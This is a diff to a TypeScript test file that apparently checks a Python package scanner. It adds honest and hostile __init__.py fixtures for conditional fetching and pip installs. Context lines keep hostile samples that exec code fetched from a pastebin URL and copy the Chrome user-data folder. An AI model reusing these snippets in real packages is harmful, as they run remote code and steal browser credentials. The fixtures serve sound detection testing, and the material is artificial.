@@ -22,6 +22,10 @@ async function isHeld(files: Files): Promise<boolean> {
 const RUN = 'import os\ndef run(*a): os.system("a")\n';
 const HERE = 'import importlib, os, pathlib, pkgutil\nHERE = os.path.dirname(__file__)\n';
 const SCRIPT = 'import os\nos.system("a")\n';
+const FETCH =
+  'import os, requests\nPATH = os.path.join(os.path.dirname(__file__), "a", "b.json")\ndef fetch(): requests.get("https://a.example")\n';
+const INSTALL = (name: string, all: string): string =>
+  `import os, re, subprocess, sys\nCUT = re.compile("[=<>]")\nwith open(os.path.join(os.path.dirname(__file__), "a", "requirements.txt")) as file:\n    wanted = {${name} for line in file.readlines()}\nsubprocess.run([sys.executable, "-m", "pip", "install", *(${all})])\n`;
 const THREAD = 'import os, threading\nclass T(threading.Thread):\n    def run(self): os.system("a")\n';
 const LOAD =
   'function load(s) { const e = document.createElement("script"); e.src = s; document.head.appendChild(e); }\n';
@@ -194,6 +198,42 @@ describe('the checks tell apart', () => {
         hostile: [
           'import requests\nclass A:\n    def go(self, x): exec(requests.get("https://pastebin.com/raw/abc").text)\n',
           'import subprocess\nclass A:\n    def go(self, x): subprocess.run(["cp", "C:\\\\Users\\\\a\\\\Google\\\\Chrome\\\\User Data", x])\n',
+        ],
+      },
+    ],
+    [
+      'a file that the archive has and one that it lacks',
+      {
+        honest: [
+          { '__init__.py': `${FETCH}if not os.path.exists(PATH): fetch()\n`, 'a/b.json': '{}' },
+          { '__init__.py': `${FETCH}if os.path.isfile(PATH):\n    x = 1\nelse:\n    fetch()\n`, 'a/b.json': '{}' },
+          { '__init__.py': `${FETCH}if not len(os.listdir(os.path.dirname(PATH))): fetch()\n`, 'a/b.json': '{}' },
+          {
+            '__init__.py': `${FETCH}def ensure():\n    if os.path.exists(PATH): return\n    fetch()\nensure()\n`,
+            'a/b.json': '{}',
+          },
+        ],
+        hostile: [
+          { '__init__.py': `${FETCH}if not os.path.exists(PATH): fetch()\n` },
+          { '__init__.py': `${FETCH}if os.path.exists(PATH): fetch()\n`, 'a/b.json': '{}' },
+          { '__init__.py': `${FETCH}if not os.path.exists(PATH) or os: fetch()\n`, 'a/b.json': '{}' },
+          { '__init__.py': `${FETCH}if not len(os.listdir(os.path.dirname(PATH))): fetch()\n` },
+          {
+            '__init__.py': `${FETCH}def ensure(path):\n    if not os.path.exists(path): fetch()\nensure(PATH)\nensure("c")\n`,
+            'a/b.json': '{}',
+          },
+        ],
+      },
+    ],
+    [
+      'requirements of a part of the package and other packages',
+      {
+        honest: [
+          { '__init__.py': INSTALL('CUT.split(line.strip())[0]', 'wanted - installed()'), 'a/requirements.txt': 'b\n' },
+        ],
+        hostile: [
+          { '__init__.py': INSTALL('"unheard-of-package"', 'wanted - installed()'), 'a/requirements.txt': 'b\n' },
+          { '__init__.py': INSTALL('line', 'wanted | {"unheard-of-package"}'), 'a/requirements.txt': 'b\n' },
         ],
       },
     ],
